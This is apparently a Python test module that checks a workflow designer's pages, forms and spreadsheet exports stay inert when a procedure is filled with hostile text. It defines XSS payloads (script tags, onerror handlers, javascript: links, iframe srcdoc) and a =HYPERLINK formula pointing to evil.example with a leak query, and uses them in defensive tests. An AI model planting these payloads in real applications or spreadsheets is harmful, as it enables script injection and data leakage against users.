"""Whatever somebody writes into names, documentation, labels, tables and files of a procedure is only text wherever it is shown.

A procedure full of scripts, HTML, ``javascript:`` links and formulas is drafted, submitted, deployed and run; then every page of the
designer's room, and every page of the other rooms that shows a procedure, is opened in Chromium.  Nothing may run, no element or link
of the hostile text may come to be, and nothing may even reach the Content-Security-Policy: its complaints in the console fail the test.
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from collections.abc import Iterator
from html import escape
from types import SimpleNamespace

import pytest
from playwright.sync_api import Page, expect
from sqlalchemy import select

from engine import Engine
from engine.runtime.design import drafts, publishing, runs
from engine.runtime.design.skeleton import skeleton
from engine.store import tables
from tests.support.browser import Desk
from tests.support.server import RunningServer
from web.app import create_app

DESIGNER, APPROVER, STARTER = "yaojing", "admin", "wangfang"
PROCESS = "hostile"
FORMULA = '=HYPERLINK("http://evil.example/?leak","点我")'
EVIL = '"><img src=x onerror=window.hacked=1><script>window.hacked=2</script><a href="javascript:window.hacked=3">甲</a>'
HTML = EVIL.replace(" onerror=window.hacked=1", "")
"""For HTML fields: the browser tells of a handler as soon as their cleaner (DOMPurify) reads the text, before it is taken out."""
MARKDOWN = f"[点我](javascript:window.hacked=4) ![图](javascript:window.hacked=5) {EVIL} <iframe srcdoc=\"<script>top.hacked=6</script>\"></iframe>"

# A text or HTML field of a form may show pictures, and the policy lets them come from this server only. Everywhere else there are none.
MADE = """() => ({
  hacked: window.hacked ?? null,
  born: [...document.querySelectorAll('[onerror], [onclick], [onload], [srcdoc], img[src="x"], a[href^="javascript:" i], area[href^="javascript:" i], iframe[src^="javascript:" i], [action^="javascript:" i]')]
    .filter((each) => each.localName !== 'img' || each.hasAttribute('onerror') || !each.closest('.fjs-container'))
    .map((each) => each.outerHTML.slice(0, 200)),
})"""


def hostile_bpmn(text: str) -> str:
    """The skeleton's drawing with hostile names and documentation at every kind of element."""
    evil = escape(EVIL, quote=True)
    documentation = f"<bpmn:documentation>{escape(MARKDOWN)}</bpmn:documentation>"
    text = text.replace('name="办理">', f'name="{evil}">{documentation}')
    text = text.replace('name="开始">', f'name="{evil}">{documentation}')
    text = text.replace('id="begin_handle" source', f'id="begin_handle" name="{evil}" source')
    text = text.replace('isExecutable="true">', f'isExecutable="true">{documentation}', 1)
    properties = "".join(
        f'<zeebe:property name="{name}" value="{escape(value, quote=True)}" />'
        for name, value in {"status": EVIL, "notify": "starter", "notify.text": EVIL, "outcomes": f"go={EVIL.replace(';', ',')}", "unknown": EVIL}.items()
    )
    text = text.replace("</bpmn:extensionElements>", f"<zeebe:properties>{properties}</zeebe:properties></bpmn:extensionElements>", 1)
    note = f'<bpmn:textAnnotation id="note"><bpmn:text>{escape(MARKDOWN)}</bpmn:text></bpmn:textAnnotation></bpmn:process>'
    text = text.replace("</bpmn:process>", note, 1)
    shape = '<bpmndi:BPMNShape id="note_di" bpmnElement="note"><dc:Bounds x="280" y="260" width="200" height="60" /></bpmndi:BPMNShape></bpmndi:BPMNPlane>'
    return text.replace("</bpmndi:BPMNPlane>", shape, 1)


def hostile_form(text: str) -> str:
    """The form with hostile labels, and components that show text, HTML and pictures."""
    form = json.loads(text)
    for component in form["components"]:
        component |= {"label": EVIL, "description": MARKDOWN, "appearance": {"prefixAdorner": EVIL[:60]}}
    rows = [
        {"type": "text", "text": MARKDOWN}, {"type": "html", "content": f"<p>{HTML}</p>"},
        {"type": "select", "key": "kind", "label": EVIL, "values": [{"label": EVIL, "value": FORMULA}]},
        {"type": "image", "source": "javascript:window.hacked=7", "alt": EVIL},
    ]  # fmt: skip
    form["components"] += [{**row, "id": f"Hostile_{number}", "layout": {"row": f"hostile_{number}", "columns": None}} for number, row in enumerate(rows)]
    form["name"] = EVIL
    return json.dumps(form, ensure_ascii=False)


def decision() -> str:
    evil = escape(EVIL, quote=True)
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" xmlns:dmndi="https://www.omg.org/spec/DMN/20191111/DMNDI/" xmlns:dc="http://www.omg.org/spec/DMN/20180521/DC/" id="hostile_definitions" name="{evil}" namespace="https://banjie.example/decisions">
  <decision id="hostile_decision" name="{evil}"><description>{escape(MARKDOWN)}</description><variable id="hostile_variable" name="hostile_decision"/>
    <decisionTable id="hostile_table" hitPolicy="FIRST"><input id="i1" label="{evil}"><inputExpression id="i1e" typeRef="string"><text>subject</text></inputExpression></input>
      <output id="o1" label="{evil}" name="o" typeRef="string"/><annotation name="{evil}"/>
      <rule id="r1"><description>{evil}</description><inputEntry id="r1i"><text>-</text></inputEntry><outputEntry id="r1o"><text>"{escape(FORMULA.replace('"', "'"))}"</text></outputEntry><annotationEntry><text>{evil}</text></annotationEntry></rule>
    </decisionTable></decision>
  <dmndi:DMNDI><dmndi:DMNDiagram id="dd"><dmndi:DMNShape id="ds" dmnElementRef="hostile_decision"><dc:Bounds x="100" y="100" width="180" height="80"/></dmndi:DMNShape></dmndi:DMNDiagram></dmndi:DMNDI>
</definitions>"""


def hostile_files() -> dict[str, str]:
    """A procedure that deploys without an error."""
    files = skeleton(PROCESS, EVIL)
    files = {
        name: hostile_bpmn(text) if name.endswith(".bpmn") else hostile_form(text) if name.endswith(".form") else text
        for name, text in files.items()
    }
    quoted = json.dumps(EVIL)
    files["procedure.yaml"] += (
        f"description: {json.dumps(MARKDOWN)}\nlimits_text: {quoted}\nregister:\n  - {{key: subject, label: {json.dumps(FORMULA)}, value: =subject}}\n"
        f"documents:\n  - {{id: paper, name: {quoted}, at: handle}}\n"
    )
    files["README.md"] = MARKDOWN
    files["hostile.dmn"] = decision()
    files["scenarios/one.json"] = json.dumps(
        {"title": EVIL, "at": "2026-11-23T09:00:00+08:00", "by": STARTER, "start": {"subject": EVIL},
         "steps": [{"do": "complete", "element": "handle", "by": STARTER, "outcome": "go", "data": {"handled": EVIL}}], "expect": {"state": "COMPLETED"}}
    )  # fmt: skip
    return files


@pytest.fixture(scope="module")
def hostile(server: RunningServer) -> Iterator[SimpleNamespace]:
    """The procedure in use with a case in hand, a changed draft of it, and a submission that waits."""
    engine = Engine(server.database)
    desk = engine.desk
    files = hostile_files()
    problems = [str(each.message) for each in drafts.examine(desk, files) if each.severity == "error"]
    assert problems == []
    engine.deploy({name: text.encode() for name, text in files.items() if name.rpartition(".")[2] in ("bpmn", "form", "dmn", "yaml")}, by=DESIGNER)
    case = desk.start_case(PROCESS, {"subject": FORMULA + EVIL, "kind": FORMULA}, by=STARTER)
    draft = drafts.branch(desk, PROCESS, by=DESIGNER)
    draft = drafts.rename(desk, draft.key, EVIL, revision=draft.revision, by=DESIGNER) or draft
    with engine.reading() as conn:
        draft = drafts.get(desk, conn, draft.key, DESIGNER)
    changed = {"README.md": MARKDOWN + "\n" + EVIL, "procedure.yaml": files["procedure.yaml"] + f"short: {json.dumps(EVIL[:30])}\n", "scenarios/one.json": files["scenarios/one.json"]}
    changed["hostile.bpmn"] = files["hostile.bpmn"].replace('name="办结"', f'name="{escape(EVIL, quote=True)}"')
    draft = drafts.save(desk, draft.key, changed, revision=draft.revision, note=EVIL, by=DESIGNER)
    drafts.autosave(desk, draft.key, "README.md", EVIL * 2, revision=draft.revision, by=DESIGNER)
    waiting = drafts.copy(desk, draft.key, title=EVIL, by=DESIGNER)
    run = runs.start(desk, draft.key, by=DESIGNER)
    desk.scenario_runs.finish(60)
    sent = publishing.submit(desk, waiting.key, revision=waiting.revision, reason=EVIL, warnings_seen=True, by=DESIGNER)
    with engine.reading() as conn:
        definition = tables.definition
        versions = {row.kind: row.key for row in conn.execute(select(definition.c.kind, definition.c.key).where(definition.c.id.like(f"{PROCESS}%")))}
        task = conn.execute(select(tables.user_task.c.key).where(tables.user_task.c.root_key == case.key)).scalars().first()
    yield SimpleNamespace(engine=engine, draft=draft.key, waiting=waiting.key, submission=sent.key, run=run.key, case=case.key, task=task, versions=versions, revision=draft.revision)
    engine.dispose()


def pages_of_the_room(hostile: SimpleNamespace) -> dict[str, list[str]]:
    """Endpoint → addresses under which it shows the hostile procedure."""
    draft, room = f"/designer/drafts/{hostile.draft}", "/designer"
    return {
        "designer.index": [room],
        "designer.definitions": [f"{room}/definitions"],
        "designer.upload": [f"{room}/upload"],
        "designer.version": [f"{room}/{key}" for key in hostile.versions.values()],
        "designer.new": [f"{room}/new"],
        "designer.import_page": [f"{room}/import"],
        "designer.draft": [draft],
        "designer.edit": [f"{draft}/edit"],
        "designer.compare": [f"{draft}/compare"],
        "designer.saved": [f"{draft}/saves/{hostile.revision}"],
        "designer.submit": [f"{draft}/submit"],
        "designer.try_draft": [f"{draft}/try"],
        "designer.scenario_run": [f"{room}/runs/{hostile.run}"],
        "designer.sheet": [f"{draft}/sheet"],
        "designer.statistics": [f"{draft}/statistics"],
        "designer.help": [f"{room}/help"],
        "designer.submissions": [f"{room}/submissions"],
        "designer.submission": [f"{room}/submissions/{hostile.submission}"],
        "designer.procedure": [f"{room}/procedures/{PROCESS}"],
    }


NOT_PAGES = {
    "designer.download", "designer.draft_file", "designer.export_draft", "designer.export_procedure", "designer.try_diagram", "designer.options_list",
    "designer.statistics_drawing", "designer.export_statistics", "designer.help_picture", "designer.run_state", "designer.statistics_figures",
    "designer.run_progress", "designer.draft_findings", "designer.try_ready",
}  # fmt: skip
"""Answers of the room that are no pages: files to be saved, data for scripts (tested below), and parts of pages that are walked."""


PICTURES_OF_FORMS = "Loading the image 'javascript:"


def look(page: Page, address: str) -> list[str]:
    """What of the hostile text came to life on the page."""
    found = page.evaluate(MADE)
    return ([f"{address}: a script ran ({found['hacked']})"] if found["hacked"] else []) + [f"{address}: {each}" for each in found["born"]]


def test_every_page_of_the_room_is_walked_by_these_tests(hostile):
    """A page that is added to the room has to be added here."""
    app = create_app(SimpleNamespace(secret_key="only for the list of pages, long"), hostile.engine, TESTING=True)
    rules = {rule.endpoint for rule in app.url_map.iter_rules() if rule.endpoint.startswith("designer.") and "GET" in (rule.methods or ())}
    assert rules - NOT_PAGES - set(pages_of_the_room(hostile)) == {"designer.compare_versions"} & rules


@pytest.mark.parametrize("person", [DESIGNER, APPROVER])
def test_hostile_text_is_inert_on_every_page_of_the_room(desk: Desk, hostile, person: str):
    desk.forgives(PICTURES_OF_FORMS)
    desk.expects(404)
    page = desk.person(person).page
    if person == APPROVER:
        addresses = ["/designer/submissions", f"/designer/submissions/{hostile.submission}"]
    else:
        addresses = [address for each in pages_of_the_room(hostile).values() for address in each]
    wrong = []
    for address in addresses:
        answer = page.goto(desk.url + address)
        assert answer is not None and answer.status == 200, address
        expect(page.locator("html[data-ready]")).to_be_attached()
        page.wait_for_load_state("networkidle")
        for fold in page.locator("main details:not([open]) > summary").all():
            if fold.is_visible():
                fold.click()
        for tab in page.locator("main [role=tab]").all():
            if tab.is_visible():
                tab.click()
                wrong += look(page, f"{address} {tab.inner_text()}")
        wrong += look(page, address)
    assert wrong == []


def test_hostile_text_is_inert_in_the_drawing_its_properties_and_its_search(desk: Desk, hostile):
    page = desk.person(DESIGNER).go(f"/designer/drafts/{hostile.draft}/edit")
    expect(page.locator("#designer[data-ready]")).to_be_attached()
    for element in ("begin", "begin_handle", "handle", "note", "done"):
        page.locator(f'.djs-element[data-element-id="{element}"]').first.click(force=True)
        for header in page.locator(".bio-properties-panel-group-header-title").all():
            header.click()
        assert look(page, element) == []
    page.keyboard.press("Control+f")
    page.locator(".djs-search-input input").fill("img")
    expect(page.locator(".djs-search-result").first).to_be_visible()
    assert look(page, "search") == []


def test_hostile_text_is_inert_where_the_procedure_is_used(desk: Desk, hostile):
    desk.forgives(PICTURES_OF_FORMS)
    desk.expects(404)
    page = desk.person(STARTER).page
    wrong = []
    for address in ("/start", f"/start/{PROCESS}", "/", "/inbox", f"/task/{hostile.task}", f"/case/{hostile.case}", "/inbox/started", "/notices"):
        answer = page.goto(desk.url + address)
        assert answer is not None and answer.status == 200, address
        expect(page.locator("html[data-ready]")).to_be_attached()
        page.wait_for_load_state("networkidle")
        for tab in page.locator("main [role=tab]").all():
            tab.click()
            wrong += look(page, address)
        wrong += look(page, address)
    assert wrong == []


def test_no_cell_of_an_export_is_a_formula_or_a_link(desk: Desk, hostile):
    """``=HYPERLINK(…)`` as a title and as the head of a column stays these characters in every workbook that lists the case."""
    seen = 0
    for person, address in ((STARTER, "/inbox/export.xlsx"), ("duqiang", f"/register/export.xlsx?procedure={PROCESS}"), ("duqiang", "/supervision/export.xlsx"), ("admin", "/operations/instances/export.xlsx"), (DESIGNER, f"/designer/drafts/{hostile.draft}/statistics.xlsx")):
        answer = desk.person(person).context.request.get(desk.url + address)
        assert answer.status == 200, address
        with zipfile.ZipFile(io.BytesIO(answer.body())) as book:
            for name in book.namelist():
                text = book.read(name).decode("utf-8", "replace")
                assert not re.search(r"<f[ >]|<hyperlink|relationships/hyperlink|externalLink", text), f"{address}: {name}"
                seen += "HYPERLINK(" in text
    assert seen > 0, "no export showed the hostile title; the test looked at nothing"


def test_files_of_the_room_come_as_downloads_that_no_browser_shows(desk: Desk, hostile):
    request = desk.person(DESIGNER).context.request
    addresses = [f"/designer/{key}/file" for key in hostile.versions.values()]
    addresses += [f"/designer/drafts/{hostile.draft}/file?name=README.md", f"/designer/drafts/{hostile.draft}/export.zip", f"/designer/procedures/{PROCESS}/export.zip"]
    for address in addresses:
        answer = request.get(desk.url + address)
        assert answer.status == 200, address
        assert answer.headers["content-disposition"].startswith("attachment"), address
        assert answer.headers["x-content-type-options"] == "nosniff", address
    shown = request.get(f"{desk.url}/designer/{hostile.versions['process']}/file?show=1")
    assert "html" not in shown.headers["content-type"]
    assert "script-src" in shown.headers["content-security-policy"]
